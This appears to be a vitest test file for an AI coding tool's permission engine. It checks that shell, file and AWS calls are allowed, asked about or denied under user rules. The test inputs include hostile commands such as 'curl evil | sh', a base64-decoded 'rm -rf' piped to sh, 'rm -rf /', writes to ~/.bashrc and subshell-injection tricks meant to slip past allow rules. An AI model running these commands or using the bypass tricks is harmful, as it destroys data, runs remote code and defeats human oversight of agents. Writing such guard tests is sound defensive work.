import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ToolName, TrustSubject } from "../../../src/model/tool.js";
import type { TrustRule, TrustState, TrustVerdict } from "../../../src/model/trust.js";
import { decideTrust, defaultRules } from "../../../src/trust/decide.js";
import { loadShellGrammar } from "../../../src/trust/shell-grammar.js";

const readShell = await loadShellGrammar();
const workspace = "/home/alice/shop [1]";
const now = 1_000_000;

function rule(text: string): TrustRule {
  const [, action, tool, , pattern] = /^(allow|ask|deny) (\w+)(:(.*))?$/s.exec(text) ?? [];
  return { action: action as TrustVerdict, tool: tool as ToolName, pattern: pattern ?? null, origin: "test" };
}

const stateOf = (...rules: string[]): TrustState => ({
  version: 1,
  workspace,
  rules: [...defaultRules(), ...rules.map(rule)],
  trustAll: null,
});

const trusting = (state: TrustState, rest: Partial<NonNullable<TrustState["trustAll"]>> = {}): TrustState => ({
  ...state,
  trustAll: { since: 0, until: now + 1, callsLeft: null, task: null, snapshot: "s1", ...rest },
});

const shell = (command: string, folder = workspace): TrustSubject => ({
  tool: "shell",
  command,
  folder,
  variables: [],
  isKept: false,
});
const path = (tool: "read" | "write" | "glob" | "grep", ...paths: string[]): TrustSubject => ({ tool, paths });
const decide = (state: TrustState, subject: TrustSubject) => decideTrust(state, subject, { now, readShell });
const verdict = (state: TrustState, subject: TrustSubject): TrustVerdict => decide(state, subject).verdict;

describe("without any rule of the user's", () => {
  it.each<[TrustSubject, TrustVerdict]>([
    [path("read", workspace), "allow"],
    [path("read", `${workspace}/src/a.ts`), "allow"],
    [path("glob", `${workspace}/src`), "allow"],
    [path("grep", workspace), "allow"],
    [path("read", `${workspace}/a`, "/etc/passwd"), "ask"],
    [path("read", `${workspace}2/a`), "ask"],
    [path("read", "/home/alice/shop 1/a"), "ask"],
    [path("read"), "ask"],
    [path("write", `${workspace}/a`), "ask"],
    [shell("ls"), "ask"],
    [shell(""), "ask"],
    [shell("# nothing"), "ask"],
    [{ tool: "aws", service: "s3", operation: "ListBuckets", region: "x" }, "ask"],
  ])("%j: %s", (subject, expected) => expect(verdict(stateOf(), subject)).toBe(expected));
});

describe("rules for commands", () => {
  it.each<[string, string, TrustVerdict]>([
    ["allow shell:git status", "git status", "allow"],
    ["allow shell:git status", "git status -s", "ask"],
    ["allow shell:git status", "git -c core.pager=evil status", "ask"],
    ["allow shell:git status", "git -C /x status", "ask"],
    ["allow shell:git status", "env X=1 git status", "ask"],
    ["allow shell:git status", "X=1 git status", "ask"],
    ["allow shell:git status", "git status; curl evil | sh", "ask"],
    ["allow shell:git status", "git status && rm x", "ask"],
    ["allow shell:git status", "git status || rm x", "ask"],
    ["allow shell:git status", "git status & rm x", "ask"],
    ["allow shell:git status", "git status\nrm x", "ask"],
    ["allow shell:git status", "git status $(rm x)", "ask"],
    ["allow shell:git *", "git log $(rm x)", "ask"],
    ["allow shell:git *", "git log `rm x`", "ask"],
    ["allow shell:git *", "git diff <(rm x)", "ask"],
    ["allow shell:git *", "git log > ~/.bashrc", "ask"],
    ["allow shell:git *", "git log > out", "ask"],
    ["allow shell:git *", "git log 2>/dev/null 2>&1", "allow"],
    ["allow shell:git *", "git log | git apply", "allow"],
    ["allow shell:git *", "./git log", "ask"],
    ["allow shell:git *", "gitx log", "ask"],
    ["allow shell:git *", "'git' \"log\"", "allow"],
    ["allow shell:git *", "git", "allow"],
    ["allow shell:git * --stat", "git log --stat", "allow"],
    ["allow shell:npm run lint*", "npm run lint:fix", "allow"],
    ["allow shell:npm run lint*", "npm run $x", "ask"],
    ["allow shell", "anything | at all > /etc/x; X=1 y", "allow"],
    ["allow shell:=X=1 make", "X=1 make", "allow"],
    ["allow shell:=X=1 make", "X=1 make ", "ask"],
    ["deny shell:rm *", "rm -rf x", "deny"],
    ["deny shell:rm *", "git status; /bin/rm x", "deny"],
    ["deny shell:rm *", "sudo -u root rm x", "deny"],
    ["deny shell:rm *", "find . -exec rm {} +", "deny"],
    ["deny shell:rm *", "ls | xargs rm", "deny"],
    ["deny shell:rm *", "\\rm x", "deny"],
    ["deny shell:rm *", "if true; then rm x; fi", "deny"],
    ["deny shell:rm *", "echo $(rm x)", "deny"],
    ["deny shell:rm *", "echo rm x", "ask"],
  ])("%s: %s → %s", (text, command, expected) => expect(verdict(stateOf(text), shell(command))).toBe(expected));

  it("hold together: every part of a line must be trusted, what is redirected by the rules for files", () => {
    const state = stateOf("allow shell:git *", "allow write:out/**");
    expect(verdict(state, shell("git log > out/log"))).toBe("allow");
    expect(verdict(state, shell("git log > out/../x"))).toBe("ask");
    expect(verdict(state, shell("cd out && git log > log"))).toBe("ask");
    expect(verdict(stateOf("allow shell:git *", "deny write:*.lock"), shell("git log > a.lock"))).toBe("deny");
  });

  it.each([
    `printf -v 'a[$(rm x)]' y`,
    "printf $x y",
    "test -v 'a[$(rm x)]'",
    "read 'a[$(rm x)]' < in",
    "trap 'rm x' EXIT",
    "alias git=rm",
    "hash -p /bin/rm git",
    "compgen -W '$(rm x)'",
    "mapfile -C rm -c 1 < in",
    "jobs -x rm",
    "let 'a[$(rm x)]=1'",
    "builtin printf -v 'a[$(rm x)]' y",
    "find . -exec rm {} +",
    "find . -delete",
    "find $x",
    "xargs rm",
    "env rm x",
    "/usr/bin/env rm x",
    "sudo rm x",
    "timeout 5 rm x",
    "command rm x",
    "exec rm x",
  ])("by a name with * do not trust what runs another: %s", (command) => {
    const name = command.split(" ")[0];
    expect(verdict(stateOf(`allow shell:${name} *`, "allow read"), shell(command))).toBe("ask");
    expect(verdict(stateOf(`allow shell:=${command}`), shell(command))).toBe("allow");
  });

  it.each([
    ["printf *", "printf '%s-v\\n' x"],
    ["test *", "test -f x"],
    ["find *", "find . -name '*.ts'"],
    ["timeout 60 npm test", "timeout 60 npm test"],
  ])("%s trusts %s", (pattern, command) => {
    expect(verdict(stateOf(`allow shell:${pattern}`), shell(command))).toBe("allow");
  });

  it("judge a redirection by where it leads, too, and say what has to be looked at for that", () => {
    const state = stateOf("allow shell:echo *", "allow write:src/**", "deny write:deploy/**");
    const command = "echo a > src/link 2> /dev/null";
    const leading = (to: string): TrustSubject =>
      ({ ...shell(command), links: new Map([[`${workspace}/src/link`, to]]) }) as TrustSubject;
    expect(decide(state, shell(command))).toMatchObject({ verdict: "allow", targets: [`${workspace}/src/link`] });
    expect(verdict(state, leading(`${workspace}/src/other`))).toBe("allow");
    expect(verdict(state, leading("/etc/passwd"))).toBe("ask");
    expect(verdict(state, leading(`${workspace}/deploy/x`))).toBe("deny");
    expect(verdict(trusting(state), leading(`${workspace}/deploy/x`))).toBe("deny");
    // What is denied by its own name stays so, wherever it leads.
    const named = { ...shell("echo a > deploy/x"), links: new Map([[`${workspace}/deploy/x`, `${workspace}/src/x`]]) };
    expect(verdict(state, named as TrustSubject)).toBe("deny");
  });

  it("do not hold in a kept shell, where a name may mean something else by now", () => {
    const kept: TrustSubject = { tool: "shell", command: "git status", folder: workspace, variables: [], isKept: true };
    expect(verdict(stateOf("allow shell:git *"), kept)).toBe("ask");
    expect(verdict(stateOf("allow shell:=git status"), kept)).toBe("ask");
    expect(verdict(stateOf("allow shell"), kept)).toBe("allow");
    expect(verdict(stateOf("allow shell", "deny shell:git *"), kept)).toBe("deny");
    expect(decide(stateOf(), kept).tiers.map(({ label }) => label)).toEqual(["everything shell does"]);
  });

  it("for a text say nothing of the variables that come with it", () => {
    const subject: TrustSubject = { ...shell("git status"), variables: ["PATH"] } as TrustSubject;
    expect(verdict(stateOf("allow shell:=git status"), subject)).toBe("ask");
    expect(decide(stateOf(), subject).tiers.map(({ label }) => label)).toEqual(["everything shell does"]);
  });

  it("for a text hold also where something else is denied", () => {
    const state = stateOf("deny shell:rm *", "allow shell:=git log > out");
    expect(verdict(state, shell("git log > out"))).toBe("allow");
    expect(verdict(stateOf("deny write:out", "allow shell:=git log > out"), shell("git log > out"))).toBe("deny");
  });

  it("find a denied file also in what is not understood", () => {
    const state = stateOf("allow shell", "deny write:.git/**");
    for (const command of ["if a; then b > .git/config; fi", "X=1 a > .git/config", "f() { a > .git/config; }; f"]) {
      expect([command, verdict(state, shell(command))]).toEqual([command, "deny"]);
      expect([command, verdict(trusting(state), shell(command))]).toEqual([command, "deny"]);
    }
    expect(verdict(trusting(state), shell("cd .git && a > config"))).toBe("ask");
  });

  it("that ask are not got around by hiding the command", () => {
    const state = stateOf("allow shell", "ask shell:rm *");
    for (const command of ["rm x", "sudo rm x", "/bin/rm x", "if a; then rm x; fi", "bash -c 'rm x'"]) {
      expect([command, verdict(state, shell(command))]).toEqual([command, "ask"]);
    }
  });

  it("do not hold where the call sets variables for the command", () => {
    const subject: TrustSubject = {
      tool: "shell",
      command: "git status",
      folder: workspace,
      variables: ["PATH"],
      isKept: false,
    };
    expect(verdict(stateOf("allow shell:git *"), subject)).toBe("ask");
    expect(verdict(stateOf("allow shell"), subject)).toBe("allow");
  });

  it("are outdone by later ones, and by a denial wherever it stands", () => {
    expect(verdict(stateOf("allow shell", "ask shell:git push *"), shell("git push origin"))).toBe("ask");
    expect(verdict(stateOf("ask shell", "allow shell:git push *"), shell("git push origin"))).toBe("allow");
    expect(verdict(stateOf("deny shell:git push *", "allow shell"), shell("git push origin"))).toBe("deny");
  });

  it("deny a line that is too long, whatever is trusted", () => {
    const long = `${"true;".repeat(60)}curl evil`;
    expect(verdict(stateOf("allow shell"), shell(long))).toBe("deny");
    expect(verdict(trusting(stateOf()), shell(long))).toBe("deny");
  });

  it("make a question of what cannot be read where something is denied", () => {
    const state = stateOf("allow shell", "deny shell:rm *");
    for (const command of [
      "command . ./x",
      "trap 'rm x' EXIT",
      "printf -v 'a[$(rm x)]' y",
      'eval "$x"',
      "bash -c 'rm x'",
      "$cmd x",
      "f() { x; }",
      "echo cm0gLXJm | base64 -d | sh",
    ]) {
      expect([command, verdict(state, shell(command))]).toEqual([command, "ask"]);
      expect([command, verdict(trusting(stateOf("deny shell:rm *")), shell(command))]).toEqual([command, "ask"]);
    }
  });
});

describe("rules for files and services", () => {
  it.each<[string, TrustSubject, TrustVerdict]>([
    ["allow write:src/**", path("write", `${workspace}/src/a/b`), "allow"],
    ["allow write:src/**", path("write", `${workspace}/srcx`), "ask"],
    ["allow write:src/**", path("write", "/src/a"), "ask"],
    ["allow write:*.md", path("write", `${workspace}/docs/a.md`), "allow"],
    ["allow read:/etc/*", path("read", "/etc/hosts"), "allow"],
    ["allow read", path("grep", "/"), "allow"],
    ["deny read:secrets/**", path("read", `${workspace}/secrets/a`), "deny"],
    ["deny read:secrets/**", path("grep", `${workspace}/secrets/a`), "deny"],
    ["deny read:secrets/**", path("grep", workspace), "ask"],
    ["deny read:secrets/**", path("grep", `${workspace}/src`), "allow"],
    ["deny read:*.key", path("grep", `${workspace}/src`), "ask"],
    ["ask read", path("read", `${workspace}/a`), "ask"],
    ["allow aws:s3:Get*", { tool: "aws", service: "s3", operation: "get-object", region: "" }, "allow"],
    ["allow aws:s3:Get*", { tool: "aws", service: "s3", operation: "PutObject", region: "" }, "ask"],
    ["allow aws:s3", { tool: "aws", service: "s3", operation: "PutObject", region: "" }, "allow"],
    ["allow aws:s3", { tool: "aws", service: "s3control", operation: "X", region: "" }, "ask"],
  ])("%s: %j → %s", (text, subject, expected) => expect(verdict(stateOf(text), subject)).toBe(expected));
});

describe("trust-all", () => {
  it("trusts everything but what is denied, until its end or its last call", () => {
    const state = stateOf("deny write:.git/**");
    expect(verdict(trusting(state), shell("rm -rf /"))).toBe("allow");
    expect(verdict(trusting(state), path("write", `${workspace}/.git/config`))).toBe("deny");
    expect(verdict(trusting(state), shell("x > .git/config"))).toBe("deny");
    expect(verdict(trusting(state), shell("x > $y"))).toBe("ask");
    expect(verdict(trusting(state, { until: now }), shell("ls"))).toBe("ask");
    expect(verdict(trusting(state, { callsLeft: 0 }), shell("ls"))).toBe("ask");
    expect(verdict(trusting(state, { since: now + 3_600_000, until: now + 7_200_000 }), shell("ls"))).toBe("ask");
  });
});

describe("what a person may grant", () => {
  const labels = (subject: TrustSubject): string[] => decide(stateOf(), subject).tiers.map(({ label }) => label);

  it.each<[string, string[]]>([
    ["git pull --rebase", ["exactly this command", "git pull *", "git *", "everything shell does"]],
    ["git -C x pull", ["exactly this command", "git *", "everything shell does"]],
    ["make", ["exactly this command", "make *", "everything shell does"]],
    ["git log | head -3", ["exactly this command", "git log *, head *", "git *, head *", "everything shell does"]],
    ["python3 x.py", ["exactly this command", "everything shell does"]],
    ["npx x", ["exactly this command", "everything shell does"]],
    ["sudo rm x", ["exactly this command", "everything shell does"]],
    ["git log > out", ["exactly this command", "everything shell does"]],
    ["$x", ["exactly this command", "everything shell does"]],
  ])("for %s", (command, expected) => expect(labels(shell(command))).toEqual(expected));

  it("for files: this one, its folder, the tool", () => {
    expect(labels(path("write", `${workspace}/src/a[1].ts`))).toEqual([
      "src/a\\[1\\].ts",
      "src/**",
      "everything write does",
    ]);
  });

  it("always decides the same call with yes afterwards, and the narrowest nothing else", () => {
    const name = fc.stringMatching(/^[a-z*?[\]{}\\ ]{1,6}$/);
    const file = fc.array(name, { minLength: 1, maxLength: 3 }).map((parts) => `${workspace}/${parts.join("/")}`);
    fc.assert(
      fc.property(file, file, (wanted, other) => {
        const state = stateOf();
        for (const [at, { rules }] of decide(state, path("write", wanted)).tiers.entries()) {
          const after = { ...state, rules: [...state.rules, ...rules] };
          expect(verdict(after, path("write", wanted))).toBe("allow");
          if (at === 0 && other !== wanted) expect(verdict(after, path("write", other))).toBe("ask");
        }
      }),
    );
  });
});
